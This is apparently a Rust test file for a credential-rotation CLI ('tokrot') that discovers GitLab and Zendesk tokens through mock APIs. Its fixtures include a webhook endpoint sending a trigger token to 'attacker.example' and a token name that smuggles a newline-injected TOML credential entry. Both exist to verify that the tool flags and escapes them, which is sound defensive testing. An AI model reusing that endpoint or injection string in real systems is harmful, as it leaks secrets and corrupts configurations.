        "zdsuppnewCANARY-in14",
    ]);
    scan(&team.env, &[&plan, &out], &secrets);
}

const TRIGGER: &str = "glptt-0123456789abcdefCANARYin10";

#[tokio::test]
async fn discover_finds_a_webhook_by_the_naming_rule_and_a_variable_by_value() {
    let team = Team::new().await;
    let g = &team.gitlab;
    let link = format!(
        "{}/admin/apps-integrations/webhooks/webhooks/01NEWHOOK/details",
        g.uri()
    );
    // Two triggers the inventory does not name: one described by a webhook's link, one (the
    // caller's own, shown in full) held by a variable and a webhook's endpoint.
    Mock::given(method("GET"))
        .and(path("/api/v4/projects/support%2Fpipelines/triggers"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!([
            {"id": 9, "description": "support webhook", "token": "4f6a"},
            {"id": 11, "description": link, "token": "9a8b"},
            {"id": 12, "description": "nightly-sync", "token": TRIGGER},
            {"id": 13, "description": "Zendesk support - GitLab Sync", "token": "7c1d"},
        ])))
        .with_priority(1)
        .mount(g)
        .await;
    let var = |key: &str, value: &str| {
        json!({"key": key, "value": value, "variable_type": "env_var",
        "protected": false, "masked": true, "hidden": false, "raw": false, "environment_scope": "*"})
    };
    Mock::given(method("GET"))
        .and(path("/api/v4/projects/support%2Fzd-sync/variables"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!([
            var("API_TOKEN", "glpat-other-value-in11"),
            var("TRIGGER_TOKEN", TRIGGER),
        ])))
        .mount(g)
        .await;
    Mock::given(method("GET"))
        .and(path("/api/v4/projects/support%2Fpipelines/variables"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!([])))
        .mount(g)
        .await;
    // A self-managed GitLab: the instance's variables are searched too (the caller is an
    // administrator here; an instance variable has no scope).
    Mock::given(method("GET"))
        .and(path("/api/v4/admin/ci/variables"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!([
            {"key": "RELAY_TRIGGER", "value": TRIGGER, "variable_type": "env_var",
             "protected": false, "masked": true, "raw": false},
        ])))
        .mount(g)
        .await;
    Mock::given(method("GET"))
        .and(path("/api/v2/webhooks"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"webhooks": [
            {"id": "01BYVALUE", "name": "nightly", "endpoint": format!("{}/api/v4/projects/9/trigger/pipeline?token={TRIGGER}&ref=main", g.uri())},
            {"id": "01ELSEWHERE", "name": "copy", "endpoint": format!("https://attacker.example/collect?token={TRIGGER}")},
            {"id": "01OTHER", "name": "other", "endpoint": "https://example.com/in"},
        ], "meta": {"has_more": false}})))
        .mount(g)
        .await;
    // The app a trigger's description names by the naming rule.
    Mock::given(method("GET"))
        .and(path("/api/v2/apps/installations.json"))
        .respond_with(
            ResponseTemplate::new(200).set_body_json(json!({"installations": [
            {"id": 360001, "app_id": 9, "settings": {"name": "GitLab Sync"}}]})),
        )
        .mount(g)
        .await;
    let args = [
        "inventory",
        "discover",
        "--project",
        "support/pipelines",
        "--project",
        "support/zd-sync",
        "--instance",
        "support",
    ];
    let out = team.tokrot().args(args).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let toml = stdout(&out);
    // By the naming rule.
    assert!(toml.contains("\"zendesk-webhook:support:01NEWHOOK\",  # by the naming rule: the trigger's description is the webhook's Admin Center link"), "{toml}");
    // By value, in a variable and in a webhook's endpoint; the token itself nowhere.
    assert!(toml.contains("\"gitlab-ci-var:support/zd-sync:TRIGGER_TOKEN\",  # by value: the variable holds this trigger's token"), "{toml}");
    assert!(toml.contains("\"zendesk-webhook:support:01BYVALUE\",  # by value: the webhook's endpoint holds this trigger's token"), "{toml}");
    assert!(toml.contains("\"gitlab-instance-var:RELAY_TRIGGER\",  # by value: the variable holds this trigger's token"), "{toml}");
    assert!(
        !toml.contains("01OTHER") && !toml.contains("API_TOKEN"),
        "{toml}"
    );
    // A webhook that carries the token to another host is said, never drafted.
    assert!(
        !toml.contains("\"zendesk-webhook:support:01ELSEWHERE\""),
        "{toml}"
    );
    assert!(
        stderr(&out).contains("webhook 01ELSEWHERE of support holds this trigger's token but sends it to attacker.example"),
        "{}",
        stderr(&out)
    );
    // The app named by the rule: its installation found, its one secure setting named; as
    // zendesk-sync writes that setting already, it is left to a person, not drafted twice.
    assert!(
        toml.contains("# TODO: zendesk-app:support:360001:api_token — by the naming rule: the trigger's description is \"GitLab Sync\", installation 360001; `api_token` is the app's one secure setting; but credential `zendesk-sync` writes it already"),
        "{toml}"
    );
    assert!(!toml.contains("INSTALLATION_ID"), "{toml}");
    // A job name points at its own project; the variable is left to the operator.
    assert!(
        toml.contains("# TODO: gitlab-ci-var:support/pipelines:KEY"),
        "{toml}"
    );
    // What the inventory names already is not drafted again; an unlisted PAT is.
    assert!(!toml.contains("trigger_id = \"9\""), "{toml}");
    assert!(toml.contains("name = \"forgotten\""), "{toml}");

    // A list that cannot be read is said: a consumer there may be missing.
    {
        let _refused = Mock::given(method("GET"))
            .and(path("/api/v4/projects/support%2Fpipelines/variables"))
            .respond_with(
                ResponseTemplate::new(403).set_body_json(json!({"message": "403 Forbidden"})),
            )
            .with_priority(1)
            .mount_as_scoped(g)
            .await;
        let partial = team.tokrot().args(args).output().unwrap();
        assert_eq!(partial.status.code(), Some(0), "{}", stderr(&partial));
        assert!(
            stderr(&partial).contains("support/pipelines's variables could not be listed"),
            "{}",
            stderr(&partial)
        );
    }

    let before = std::fs::read_to_string(team.env.path().join("team/tokrot.toml")).unwrap();
    let written = team.tokrot().args(args).arg("--write").output().unwrap();
    assert_eq!(written.status.code(), Some(0), "{}", stderr(&written));
    let after = std::fs::read_to_string(team.env.path().join("team/tokrot.toml")).unwrap();
    assert!(
        after.starts_with(&before),
        "what was there is kept as it was"
    );
    assert!(
        after.contains("\"gitlab-ci-var:support/zd-sync:TRIGGER_TOKEN\""),
        "{after}"
    );
    let check = team
        .tokrot()
        .args(["status", "--output", "json"])
        .output()
        .unwrap();
    assert_eq!(
        check.status.code(),
        Some(0),
        "the merged inventory loads: {}",
        stderr(&check)
    );
    let again = team.tokrot().args(args).output().unwrap();
    assert!(stderr(&again).contains("Nothing new"), "{}", stderr(&again));
    let mut secrets = Team::secrets().to_vec();
    secrets.extend([TRIGGER, "glpat-other-value-in11"]);
    scan(&team.env, &[&out, &written, &check, &again], &secrets);
}

#[tokio::test]
async fn what_a_vendor_names_cannot_write_into_the_inventory_and_a_check_does_not_pass_what_it_cannot_read()
 {
    let team = Team::new().await;
    // A project access token whose name carries a newline and a credential of its own.
    let hostile = "x\n[[credential]]\nname = \"evil\"\nrunbook = \"gitlab-pat\"\nparams = { token_id = \"1\" }\ntargets = [\"gitlab-ci-var:attacker/p:STEAL\"]\n#";
    Mock::given(method("GET"))
        .and(path("/api/v4/projects/support%2Fother/access_tokens"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!([token(
            77,
            hostile,
            Some(30)
        )])))
        .with_priority(1)
        .mount(&team.gitlab)
        .await;
    let out = team
        .tokrot()
        .args([
            "inventory",
            "discover",
            "--project",
            "support/other",
            "--write",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let after = std::fs::read_to_string(team.env.path().join("team/tokrot.toml")).unwrap();
    // It is in a comment, escaped, on one line: no line of the file starts what it wrote.
    for line in after.lines() {
        assert!(!line.starts_with("name = \"evil\""), "{after}");
        assert!(
            !line.starts_with("targets = [\"gitlab-ci-var:attacker"),
            "{after}"
        );
    }
    let entries = after.lines().filter(|l| *l == "[[credential]]").count();
    assert_eq!(
        entries,
        12 + 2,
        "the fixture's 12, `forgotten` and the one drafted: {after}"
    );

    // A check does not pass tokens it could not read.
    Mock::given(method("GET"))
        .and(path("/api/v4/personal_access_tokens/43"))
        .respond_with(
            ResponseTemplate::new(500)
                .set_body_json(json!({"message": "500 Internal Server Error"})),
        )
        .with_priority(1)
        .mount(&team.gitlab)
        .await;
    let check = team
        .tokrot()
        .args(["status", "--check", "--within", "0"])
        .output()
        .unwrap();
    assert_eq!(check.status.code(), Some(1), "{}", stderr(&check));
    // 43 answers 500; the two drafted entries (45, 77) are not served by this stand-in.
    assert!(
        stderr(&check).contains("3 could not be read"),
        "{}",
        stderr(&check)
    );

    // The same token twice, or a secret in a note, is refused where it is written.
    for (body, said) in [
        (
            "[[credential]]\nname = \"a\"\nrunbook = \"gitlab-pat\"\nparams = { token_id = \"42\" }\n[[credential]]\nname = \"b\"\nrunbook = \"gitlab-pat\"\nparams = { token_id = \"42\" }\n",
            "dup.toml:6:8: credential `b` names the same token as `a`",
        ),
        (
            "[[credential]]\nname = \"a\"\nrunbook = \"gitlab-pat\"\nparams = { token_id = \"42\" }\nnotes = \"the old one was glpat-abcdefghijklmnop\"\n",
            "dup.toml:1:1: `owner` or `notes` looks like it holds a token",
        ),
    ] {
        team.env.write("dup.toml", body);
        let bad = team
            .tokrot()
            .arg("--inventory")
            .arg(team.env.path().join("dup.toml"))
            .args(["inventory", "check"])
            .output()
            .unwrap();
        assert_eq!(bad.status.code(), Some(2));
        assert!(stderr(&bad).contains(said), "{}", stderr(&bad));
        assert!(
            !stderr(&bad).contains("abcdefghijklmnop"),
            "{}",
            stderr(&bad)
        );
    }
    std::fs::remove_file(team.env.path().join("dup.toml")).unwrap();
    scan(&team.env, &[&out, &check], &Team::secrets());
}

#[tokio::test]
async fn an_expired_token_points_at_the_manual_route_not_at_trying_again() {
    let team = Team::new().await;
    let out = team
        .tokrot()
        .args(["--yes", "rotate", "--credential", "legacy-bot"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains(&format!("expired on {}", day(-3))) && err.contains("--token-stdin"),
        "{err}"
    );
    let writes = team
        .gitlab
        .received_requests()
        .await
        .unwrap()
        .iter()
        .filter(|r| r.method.as_str() != "GET")
        .count();
    assert_eq!(writes, 0);
    scan(&team.env, &[&out], &Team::secrets());
}

#[tokio::test]
async fn hints_name_the_credential_the_operator_used() {
    let team = Team::new().await;
    // The vendor refuses the rotate call: nothing was made, and the run is to be started again
    // the way it was, by its credential.
    Mock::given(method("POST"))
        .and(path("/api/v4/personal_access_tokens/42/rotate"))
        .respond_with(
            ResponseTemplate::new(400)
                .set_body_json(json!({"message": "400 Bad request - Token already rotated"})),
        )
        .expect(1)
        .mount(&team.gitlab)
        .await;
    let out = team
        .tokrot()
        .args(["--yes", "rotate", "--credential", "zendesk-sync"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let resumed = team.tokrot().args(["--yes", "resume"]).output().unwrap();
    let err = stderr(&resumed);
    assert_eq!(resumed.status.code(), Some(2), "{err}");
    assert!(
        err.contains("run `tokrot rotate --credential zendesk-sync` again"),
        "{err}"
    );
    assert!(!err.contains("tokrot rotate gitlab-pat"), "{err}");
    // A credential's name given where a runbook goes: the command that takes it.
    let typed = team
        .tokrot()
        .args(["rotate", "zendesk-sync"])
        .output()
        .unwrap();
    let err = stderr(&typed);
    assert_eq!(typed.status.code(), Some(2), "{err}");
    assert!(
        err.contains("`zendesk-sync` is a credential of the inventory"),
        "{err}"
    );
    assert!(
        err.contains("tokrot rotate --credential zendesk-sync"),
        "{err}"
    );
    // Not a credential either: clap's own message, with the runbooks.
    let typo = team
        .tokrot()
        .args(["rotate", "nothing-like-it"])
        .output()
        .unwrap();
    assert_eq!(typo.status.code(), Some(2));
    assert!(
        !stderr(&typo).contains("is a credential"),
        "{}",
        stderr(&typo)
    );
    scan(
        &team.env,
        &[&out, &resumed, &typed, &typo],
        &Team::secrets(),
    );
}

#[tokio::test]
async fn status_fits_a_terminal_a_token_a_line_and_cuts_only_free_text() {
    let team = Team::new().await;
    let json_out = team
        .tokrot()
        .args(["status", "--output", "json"])
        .output()
        .unwrap();
    let doc = crate::common::json_doc(&json_out);
    let rows = doc["tokens"].as_array().unwrap();
    for width in [80usize, 120] {
        let out = team
            .tokrot()
            .env("COLUMNS", width.to_string())
            .arg("status")
            .output()
            .unwrap();
        let text = stdout(&out);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), rows.len() + 1, "a token a line:\n{text}");
        for line in &lines {
            assert!(line.chars().count() <= width, "{width}: {line:?}");
        }
        assert!(lines[0].starts_with("NAME"), "{text}");
        // Dates and kinds are never cut.
        for r in rows {
            if let Some(expires) = r["expires"].as_str() {
                assert!(text.contains(expires), "{expires} cut at {width}:\n{text}");
            }
            let kind = r["kind"].as_str().unwrap();
            assert!(text.contains(kind), "{kind} cut at {width}:\n{text}");
        }
        assert!(
            text.contains('…'),
            "something had to be cut at {width}:\n{text}"
        );
    }
}

#[tokio::test]
async fn every_table_fits_a_real_terminal_of_80_and_120_columns() {
    // On a pseudo-terminal of each width: status, history, instances, list and auth status,
    // with the team's inventory (a 99-character trigger description among them) and a run in
    // the journal. No line is wider than the terminal, colour codes aside.
    let team = Team::new().await;
    let made = team
        .tokrot()
        .args(["--yes", "rotate", "--credential", "zendesk-sync"])
        .output()
        .unwrap();
    // The rotate call is refused (404): nothing changed, the run is journaled as failed.
    assert_eq!(made.status.code(), Some(1), "{}", stderr(&made));
    let dir = team.env.path().join("team");
    let bin = env!("CARGO_BIN_EXE_tokrot");
    let uri = team.gitlab.uri();
    for width in [80usize, 120] {
        for command in ["status", "history", "instances", "list", "auth status"] {
            let script = format!(
                "cd '{}' && {} && exec '{bin}' --gitlab-url {uri} {command}",
                dir.display(),
                crate::common::sized(width, 400)
            );
            let pty = crate::common::Pty::spawn_program(
                &team.env,
                "sh",
                &["-c", &script],
                &[("GITLAB_TOKEN", CALLER)],
            );
            let (code, raw) = pty.finish();
            assert_eq!(code, 0, "{command} at {width}:\n{raw}");
            crate::common::assert_no_piece("screen", &raw, &Team::secrets());
            let shown = console::strip_ansi_codes(&raw);
            let lines: Vec<&str> = shown.lines().collect();
            assert!(lines.len() >= 2, "{command} at {width}:\n{shown}");
            // A live bar redraws its line after a carriage return: each piece is measured.
            for piece in lines.iter().flat_map(|l| l.split('\r')) {
                let cols = console::measure_text_width(piece);
                assert!(cols <= width, "{command} at {width}: {piece:?}");
            }
        }
    }
}
